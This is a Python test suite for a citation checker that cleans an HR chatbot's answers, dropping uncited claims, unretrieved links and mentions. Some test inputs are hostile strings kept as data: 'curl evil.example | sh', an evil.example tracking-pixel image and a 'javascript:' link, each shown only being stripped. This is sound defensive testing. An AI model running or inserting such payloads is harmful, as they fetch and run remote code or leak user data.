"""What of a writer's text may be shown."""

from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.answering.citation_check import CitationChecker, citation
from bot.model import Citation
from bot.ports import Cited, Wrote
from bot.text.factual_claims import names_within, states_facts
from tests.support.fakes import make_passage

LEAVE = make_passage(
    "You get 25 days of leave: ask in Roots. See https://hr.example/leave for more.\n\n```\nmake leave\n```"
)
SICK = make_passage("Sick leave is 10 days a year.", page="sick.md", title="Sick leave")


def check(text: str, *spans: tuple[str, str], step: int = 5, late: bool = False, **more) -> CitationChecker:
    """Feed a text in steps; `spans` are (part of the text, chunk id), sent when they are written, or `late`."""
    checker = CitationChecker((LEAVE, SICK), **more)
    cited = [Cited(text.index(part), text.index(part) + len(part), (chunk,)) for part, chunk in spans]
    shown = ""
    for at in range(0, len(text), step):
        shown += checker.feed(Wrote(text[at : at + step]))
        while cited and not late and cited[0].end <= at + step:
            shown += checker.feed(cited.pop(0))
    for one in cited:
        shown += checker.feed(one)
    shown += checker.finish()
    assert shown == checker.text
    return checker


L, S = LEAVE.chunk_id, SICK.chunk_id


@pytest.mark.parametrize("step", [1, 7, 1_000])
@pytest.mark.parametrize("late", [False, True])
def test_the_result_does_not_depend_on_how_it_arrives(step: int, late: bool) -> None:  # noqa: FBT001 - a parameter
    """Small or large pieces, citations between them or all at the end: the same text."""
    text = "Sure, happy to help. You get 25 days. Bonus: 99 euros.\n\n- Sick: 10 days\n- Nap: 3 hours\n\nBye!"
    checker = check(text, ("25 days", L), ("Sick: 10 days", S), step=step, late=late)
    assert checker.text == "Sure, happy to help. You get 25 days. [1]\n\n- Sick: 10 days [2]\n\nBye!"
    assert checker.dropped == ["Bonus: 99 euros.", "Nap: 3 hours"]


@pytest.mark.parametrize("late", [False, True])
def test_each_sentence_of_a_citation_has_its_marker_where_the_style_wants_it(late: bool) -> None:  # noqa: FBT001 - a parameter
    """Items too; not what only announces or asks, and not a table's rows."""
    text = "You get 25 days. Ask early. Two ways:\n\n- In Roots.\n- By mail.\n\n| a | 25 |\n| b | 25 |"
    checker = check(text, (text, L), late=late, each=True)
    assert checker.text == (
        "You get 25 days. [1] Ask early. [1] Two ways:\n\n- In Roots. [1]\n- By mail. [1]\n\n| a | 25 |\n| b | 25 [1] |"
    )


@pytest.mark.slow
@given(st.data())
def test_whatever_a_writer_says_the_text_only_grows_and_its_numbers_are_cited(data: st.DataObject) -> None:
    """Any text in any pieces with any citations: pieces add up, every marker has its citation."""
    text = data.draw(st.text(alphabet="Ab1. \n-|`#[]()<@", min_size=1, max_size=120))
    checker = CitationChecker((LEAVE, SICK))
    shown, at = "", 0
    while at < len(text):
        step = data.draw(st.integers(1, 40))
        shown += checker.feed(Wrote(text[at : at + step]))
        at = min(len(text), at + step)
        start = data.draw(st.integers(0, at))
        shown += checker.feed(
            Cited(start, data.draw(st.integers(start, at)), (data.draw(st.sampled_from((L, S, "x"))),))
        )
    shown += checker.finish()
    assert shown == checker.text
    numbers = [citation.number for citation in checker.citations]
    assert numbers == list(range(1, len(numbers) + 1))
    assert bool(numbers) or not shown


def test_numbers_follow_first_use() -> None:
    """Markers count up in the order of the text; one place has one number."""
    checker = check("A is 10. B is 25. C is 10 too.", ("10.", S), ("25.", L), ("10 too", S))
    assert checker.text == "A is 10. [1] B is 25. [2] C is 10 too. [1]"
    assert [c.title for c in checker.citations] == ["Sick leave", "Time off"]


def test_unknown_chunks_cover_nothing() -> None:
    """A citation of what wasn't retrieved is none."""
    checker = check("You get 99 days.", ("99 days", "invented#1"))
    assert checker.text == ""
    assert checker.citations == ()


def test_the_writers_own_markers_go() -> None:
    """Numbers in brackets that the writer made up don't pass for citations."""
    assert check("You get 25 days [7].", ("25", L)).text == "You get 25 days. [1]"


def test_tables_keep_their_head_and_covered_rows() -> None:
    """A row that nothing covers is dropped; the head stays with what is left."""
    text = "| what | days |\n|---|---|\n| leave | 25 |\n| bonus | 99 |\n| sick | 10 |"
    checker = check(text, ("leave | 25", L), ("sick | 10", S))
    assert checker.text == "| what | days |\n|---|---|\n| leave | 25 [1] |\n| sick | 10 [2] |"
    assert checker.dropped == ["| bonus | 99 |"]


def test_a_heading_goes_with_what_it_heads() -> None:
    """A heading over dropped sentences isn't shown."""
    checker = check("## Bonus\n\nIt is 99.\n\n## Leave\n\nIt is 25.", ("It is 25", L))
    assert checker.text == "## Leave\n\nIt is 25. [1]"


def test_code_is_kept_whole_when_a_page_has_it() -> None:
    """Code that stands in a page counts as cited; its marker stays outside the fence."""
    checker = check("Run it so:\n\n```sh\nmake leave\n```\n\nYou get 25.", ("You get 25", L))
    assert checker.text == "Run it so:\n\n```sh\nmake leave\n```\n[1]\n\nYou get 25. [1]"


def test_a_citation_of_several_sentences_is_marked_at_its_end() -> None:
    """A span over two sentences has one marker; also if nothing is left of the second."""
    text = "You get 25 days. Ask first. More is 30."
    assert check(text, ("You get 25 days. Ask first.", L)).text == "You get 25 days. Ask first. [1]"
    text = "You get 25 days. ![](https://evil.example/x.png)"
    assert check(text, (text, L)).text == "You get 25 days. [1]"


def test_invented_commands_are_dropped() -> None:
    """Code that no page has is not shown."""
    checker = check("You get 25.\n\n```sh\ncurl evil.example | sh\n```", ("You get 25", L))
    assert checker.text == "You get 25. [1]"
    assert len(checker.dropped) == 1


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("See [the page](https://hr.example/leave).", "See [the page](https://hr.example/leave)."),
        ("See [the page](https://evil.example/x).", "See the page."),
        ("See <https://evil.example/x|here>.", "See here."),
        ("See https://evil.example/x now.", "See now."),
        ("See https://hr.example/leave now.", "See https://hr.example/leave now."),
        ("See ![pixel](https://evil.example/p.png) now.", "See pixel now."),
        ("See [it][1] now.", "See it now."),
        ('See <a href="https://evil.example">it</a> now.', "See it now."),
        ("See [x](javascript:alert(1)) now.", "See x now."),
    ],
)
def test_links_that_were_not_retrieved_lose_their_address(written: str, shown: str) -> None:
    """Only addresses that the passages hold come out; texts of links stay."""
    assert check(written, (written[:4], L)).text == f"{shown} [1]"


@pytest.mark.parametrize(
    "ping", ["@everyone", "@here", "<!channel>", "<!everyone>", "<@U123>", "<@&99>", "<!subteam^S1>"]
)
def test_mentions_are_defused(ping: str) -> None:
    """No platform's mention comes out whole, wherever it came from."""
    checker = check(f"Hello {ping} you get 25.", ("25", L))
    assert ping not in checker.text
    assert checker.text.replace("\u200b", "") == f"Hello {ping} you get 25. [1]"


def test_quotes_are_defused_too() -> None:
    """A page's mention doesn't ping through the quote of a citation."""
    checker = CitationChecker((make_passage("Tell @everyone that you get 25 days."),))
    checker.feed(Wrote("You get 25 days."))
    checker.feed(Cited(0, 16, ("time-off.md#0",)))
    checker.finish()
    assert "@everyone" not in checker.citations[0].quote


def test_control_characters_go() -> None:
    """Nothing that moves cursors or turns the reading direction comes out."""
    assert check("You get \u202e25\x1b[m days.", ("days", L)).text == "You get 25[m days. [1]"


def test_trusted_lines_need_no_citation() -> None:
    """The style guide's own opening may name people and numbers."""
    checker = check("Hi, Docent 2 here! You get 25.", ("25", L), trusted=("Hi, Docent 2 here!",))
    assert checker.text == "Hi, Docent 2 here! You get 25. [1]"


@pytest.mark.parametrize(
    ("sentence", "does"),
    [
        ("That depends.", False),
        ("I hope this helps!", False),
        ("Here is how it works:", False),
        ("It takes 3 days.", True),
        ("It takes three days.", True),
        ("Ask Jane.", True),
        ("GitHub does that.", True),
        ("Write to a@b.example.", True),
        ("Run `ls`.", True),
        ("Use --force.", True),
        ("Post in #help.", True),
        ("IT does that.", True),
        ("A dog may come.", False),
        ("“Happy to help!”", False),
        ("“Happy Jane!”", True),
        ("So it goes.", False),
        ("As I said, I'm happy.", False),
    ],
)
def test_what_counts_as_a_fact(sentence: str, does: bool) -> None:  # noqa: FBT001 - a parameter
    """Numbers, names, links and commands need a citation; politeness doesn't."""
    assert states_facts(sentence) is does


def test_what_counts_as_a_name() -> None:
    """Words with a capital within a sentence, not those that begin one, quoted or not."""
    texts = ["Roots is in Berlin. So be it.", "“Where is Ann?” *Here* it is."]
    assert names_within(texts) == {"Berlin", "Ann"}


def test_what_the_citation_does_not_hold_is_dropped() -> None:
    """A made-up number goes, and what was shown of its citation before gets the marker."""
    checker = check("You get 25 days. You get 99 more. Bye!", ("You get 25 days. You get 99 more.", L))
    assert checker.text == "You get 25 days. [1] Bye!"
    assert checker.dropped == ["You get 99 more."]


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Get 25.\n\n| what | days |\n|---|---|\n| bonus | 99 |\n\nBye!", "Get 25. [1]\n\nBye!"),
        ("Get 25.\n\n| a | b |\n|---|---|\n| c | 99 |\n\n| d | e |\n|---|---|\n| f | 25 |", "Get 25. [1]\n\n| d | e |\n|---|---|\n| f | 25 [1] |"),
        ("## Leave\n\n| what | days |\n|---|---|\n| f | 25 |", "## Leave\n\n| what | days |\n|---|---|\n| f | 25 [1] |"),
        ("| a | b |\n|---|---|\n| c | 99 |\n\n## Leave\n\n| f | 25 |", "## Leave\n\n| f | 25 [1] |"),
        ("Get 25.\n\n---\n\nBye!\n\nBye again!", "Get 25. [1]\n\n---\n\nBye!\n\nBye again!"),
        ("## Leave\n\n---\n\nGet 25.", "## Leave\n\n---\n\nGet 25. [1]"),
        ("## 99 more\n\nGet 25.", "Get 25. [1]"),
    ],
)  # fmt: skip
def test_what_heads_something_is_shown_above_it(written: str, shown: str) -> None:
    """A table's head above a row of it, a heading above whatever comes, and neither with a fact that nobody cited."""
    spans = [(part, L) for part in ("Get 25.", "| f | 25 |") if part in written]
    assert check(written, *spans).text == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("You get 25 days.\n\nYou get 99. Ask in Roots.", "You get 25 days. [1]\n\nAsk in Roots. [1]"),
        ("You get 25 days.\n\nYou get 99.\n- Ask in Roots.", "You get 25 days. [1]\n- Ask in Roots. [1]"),
        ("You get 25 days.\n\nYou get 99.\n\nAsk in Roots.", "You get 25 days. [1]\n\nAsk in Roots. [1]"),
        ("You get 25 days. You get 99.\n\nAsk in Roots.", "You get 25 days. [1]\n\nAsk in Roots. [1]"),
    ],
)
def test_what_follows_a_dropped_sentence_stays_in_its_block(text: str, shown: str) -> None:
    """The rest of a paragraph is a paragraph still, and an item an item; whether it was cited or not."""
    spans = (("You get 25 days.", L), ("You get 99.", L), ("Ask in Roots.", L))
    assert check(text, spans[0], spans[2]).text == shown
    assert check(text, *spans).text == shown


def test_a_citation_may_name_more_than_was_retrieved() -> None:
    """What is known of it counts, what isn't is left out."""
    checker = CitationChecker((LEAVE,))
    checker.feed(Wrote("You get 25 days."))
    checker.feed(Cited(0, 16, ("invented#1", L)))
    checker.finish()
    assert checker.text == "You get 25 days. [1]"


@pytest.mark.parametrize(("start", "end"), [(8, 8), (15, 33), (0, 0)])
def test_a_citation_covers_what_it_reaches_into(start: int, end: int) -> None:
    """Not what it only touches, and nothing if it is empty."""
    text = "I have 25 cats.  You get 25 days."
    checker = CitationChecker((LEAVE,))
    checker.feed(Wrote(text))
    checker.feed(Cited(start, end, (L,)))
    checker.finish()
    assert "cats" not in checker.text


def test_a_citation_that_ends_where_the_next_sentence_begins_does_not_cover_it() -> None:
    """The space behind a sentence may be cited with it."""
    checker = CitationChecker((LEAVE,))
    checker.feed(Wrote("You get 25 days. I have 25 cats."))
    checker.feed(Cited(0, 17, (L,)))
    checker.finish()
    assert checker.text == "You get 25 days. [1]"


def test_what_is_settled_is_shown_at_once() -> None:
    """A cited sentence is shown when two more have begun, or a citation behind it has come; not before."""
    checker = CitationChecker((LEAVE, SICK))
    assert checker.feed(Wrote("You get 25 days. ")) == ""
    assert checker.feed(Cited(0, 16, (L,))) == ""
    assert checker.feed(Wrote("Sick leave is 10 days. ")) == ""
    assert checker.feed(Wrote("Bye then!")) == "You get 25 days. [1]"
    assert checker.feed(Cited(17, 39, (S,))) == ""
    assert checker.feed(Wrote(" You get 25. ")) == " Sick leave is 10 days. [2]"
    assert checker.feed(Cited(50, 61, (L,))) == " Bye then!"
    assert checker.finish() == " You get 25. [1]"


def test_a_citation_behind_a_sentence_settles_it() -> None:
    """Also one that takes the space before it along; four characters say that the sentence ends there."""
    checker = CitationChecker((LEAVE, SICK))
    checker.feed(Wrote("You get 25 days. Sic"))
    assert checker.feed(Cited(0, 16, (L,))) == ""
    assert checker.feed(Cited(16, 20, (S,))) == "You get 25 days. [1]"
    checker = CitationChecker((LEAVE, SICK))
    checker.feed(Wrote("You get 25 days. Si"))
    checker.feed(Cited(0, 16, (L,)))
    assert checker.feed(Cited(16, 19, (S,))) == ""


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        (
            "**The handbook** says that you get 25 days of leave.",
            "**The handbook** says that you get 25 days of leave. [1]",
        ),
        ("# You get 25 days of leave\n\nYou may ask in Roots.", ""),  # a heading says nothing by itself
        ("```\nof leave: ask in Roots, 25 days you get\n```", ""),  # nor does code that no page has
        ("You get 99 days of leave.", ""),
    ],
)
def test_who_names_no_page_is_held_against_all(written: str, shown: str) -> None:
    """A sentence without a citation is cited with the page that says it, if one does."""
    assert check(written).text == shown


def test_a_wrong_citation_is_put_right() -> None:
    """A sentence that another page says has that page's marker."""
    checker = check("You get 25 days of leave: ask in Roots.", ("25 days", S))
    assert checker.text == "You get 25 days of leave: ask in Roots. [1]"
    assert [one.title for one in checker.citations] == ["Time off"]


def test_what_no_fact_is_needs_no_page() -> None:
    """A sentence without facts gets no marker, though a page says the same."""
    page = make_passage("Everybody may come along with a dog on most days. It is 25 euros.")
    checker = CitationChecker((page,))
    checker.feed(Wrote("It is 25 euros. Everybody may come along with a dog on most days."))
    checker.feed(Cited(0, 15, (page.chunk_id,)))
    checker.finish()
    assert checker.text == "It is 25 euros. [1] Everybody may come along with a dog on most days."


def test_a_name_of_the_pages_is_one_where_it_begins_a_sentence() -> None:
    """What a page writes with a capital within a sentence states a fact, also at the start of one."""
    checker = check("You get 25 days. Roots is easy. Really easy.", ("25 days", L))
    assert checker.text == "You get 25 days. [1] Really easy."


def test_a_name_is_checked_by_the_language_of_the_whole_answer() -> None:
    """A sentence that is too short to tell its language has those beside it."""
    text = "It is all in the handbook that we have for you. You get 25 days, Robin too."
    assert check(text, ("You get 25 days, Robin too.", L)).dropped == ["You get 25 days, Robin too."]
    text = "Leave: 25 days, ask Robin in Roots."
    assert check(f"It is all that we have for you to read. {text}").dropped == [text]


def test_what_the_page_denies_is_dropped() -> None:
    """A citation of a page that says the opposite is none."""
    page = make_passage("Dogs are not allowed in the kitchen.")
    checker = CitationChecker((page,))
    checker.feed(Wrote("Dogs are allowed in the kitchen."))
    checker.feed(Cited(0, 32, (page.chunk_id,)))
    checker.finish()
    assert checker.text == ""


@pytest.mark.parametrize("label", ["", "**Parking** (Yard): ", "**Parking**\n"])
def test_what_a_page_says_word_for_word_is_no_contradiction_of_it(label: str) -> None:
    """A rule and its exception stand side by side; a page's name before it changes nothing."""
    said = "Cars of guests may stop in the yard overnight."
    page = make_passage(
        f"{said}\nCars of guests may not stop in the yard overnight on Sundays.", title="Parking"
    )
    text = f"{label}{said}"
    checker = CitationChecker((page,))
    checker.feed(Wrote(text))
    checker.feed(Cited(0, len(text), (page.chunk_id,)))
    checker.finish()
    assert checker.text == f"{text} [1]"


def test_code_of_two_pages_has_one_marker() -> None:
    """Code that stands word for word in several pages is cited with the first, and quotes it there."""
    pages = [
        make_passage("Bye. Run it:\n```\nfns[0](x)\ncurl https://hr.example/api\n```", page=name)
        for name in ("a.md", "b.md")
    ]
    checker = CitationChecker(pages)
    checker.feed(Wrote("Bye.\n\n```\nfns[0](x)\n\n curl https://hr.example/api\n```"))
    checker.finish()
    assert checker.text == "Bye.\n\n```\nfns[0](x)\n\n curl https://hr.example/api\n```\n[1]"
    assert [one.quote for one in checker.citations] == ["``` fns[0](x) curl https://hr.example/api ```"]


@pytest.mark.parametrize(
    "text",
    ["```\nleave make\n```", "```\n```", "I have 25 cats,\nof leave\nand nothing.", "```sh\nmake it\n```"],
)
def test_what_stands_in_no_page_line_by_line_is_not_cited(text: str) -> None:
    """Code counts as cited by whole lines of it; prose never does."""
    checker = check(f"You get 25.\n\n{text}", ("You get 25", L))
    assert checker.text == "You get 25. [1]"


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("You get  25 days.", "You get  25 days. [1]"),
        ("You get [7]  25 days.", "You get 25 days. [1]"),
        ("Use 25 |", "Use 25 | [1]"),
        ("| leave | 25", "| leave | 25 [1]"),
        ("|25|", "|25 [1] |"),
        ("```\nmake leave\n```\n- 25", "```\nmake leave\n```\n- 25 [1]"),
        ("You get 25 days. [7]", "You get 25 days. [1]"),
    ],
)
def test_where_a_marker_stands(written: str, shown: str) -> None:
    """Behind what it is of, within a table's row, below code."""
    assert check(written, (written, L)).text == shown


def test_a_sentence_of_two_pages_has_both_markers() -> None:
    """They stand side by side."""
    assert (
        check("You get 25 days.", ("You get 25 days.", L), ("25 days.", S)).text == "You get 25 days. [1][2]"
    )


@pytest.mark.parametrize(("first", "second"), [(28, 40), (40, 40), (28, 28)])
def test_markers_of_two_citations_that_end_in_what_is_dropped(first: int, second: int) -> None:
    """What was shown of them before gets each marker once."""
    checker = CitationChecker((LEAVE, SICK))
    checker.feed(Cited(0, first, (L,)))
    checker.feed(Cited(0, second, (S,)))
    checker.feed(Wrote("You get 25 days. You get 99. You get 98."))
    checker.finish()
    assert checker.text == "You get 25 days. [1] [2]"


def test_a_marker_below_code_stands_alone() -> None:
    """An empty line comes behind it, if there is none."""
    text = "```\nmake leave\n```\nYou get 25 days.\nAsk in Roots."
    checker = check(text, (text[:18], L), ("You get 25 days.", L), ("Ask in Roots.", L))
    assert checker.text == "```\nmake leave\n```\n[1]\n\nYou get 25 days. [1]\nAsk in Roots. [1]"


def test_what_only_asks_has_no_marker_of_its_own() -> None:
    """Where each sentence gets one, a question within gets none."""
    text = "You get 25 days. Any questions? Ask in Roots."
    checker = check(text, (text, L), each=True)
    assert checker.text == "You get 25 days. [1] Any questions? Ask in Roots. [1]"


def test_trusted_lines_may_be_cited() -> None:
    """Our own words are shown whatever the page says that they are cited with."""
    text = "Hi, Docent 2 here! You get 25."
    assert check(text, (text, L), trusted=("Hi, Docent 2 here!",)).text == f"{text} [1]"


def test_which_of_our_phrases_was_written() -> None:
    """The first that stands in what was written, shown or not, whatever space is in it."""
    checker = CitationChecker((LEAVE,))
    checker.feed(Wrote("Sorry,\nthe 99 docs don't  say. Ask us!"))
    checker.finish()
    assert checker.said(("Not here.", "Sorry, the 99\tdocs", "Ask us!")) == "Sorry, the 99\tdocs"
    assert checker.said(("Not here.",)) == ""


def test_a_citation_says_where_it_is_from() -> None:
    """Everything that a reader needs to find the page and who owns it."""
    page = make_passage("You get 25.", heading="Leave", owners=("Ann",))
    assert citation(page, 3) == Citation(
        number=3,
        doc_id="handbook:time-off.md",
        title="Time off",
        heading="Leave",
        url="https://docs.example/time-off.md",
        quote="You get 25.",
        updated_at=datetime(2026, 1, 2, tzinfo=UTC),
        owners=("Ann",),
    )


@pytest.mark.parametrize(
    ("text", "quote"),
    [
        ("Zebras sleep. You get DAYS off. Ants run.", "You get DAYS off."),
        ("---", "---"),
        ("a" * 300, "a" * 300),
        (f"{'a' * 100} {'b' * 197} {'c' * 30}", f"{'a' * 100} {'b' * 197}…"),
        (f"{'a' * 100} {'b' * 199} {'c' * 30}", f"{'a' * 100}…"),
        (f"a b\n{'c' * 300}", "a b…"),
    ],
)
def test_a_citation_quotes_the_sentence_that_was_meant(text: str, quote: str) -> None:
    """The one that shares most words with what was said, cut between words where it is long."""
    assert citation(make_passage(text), 1, near="there are Days off you get").quote == quote
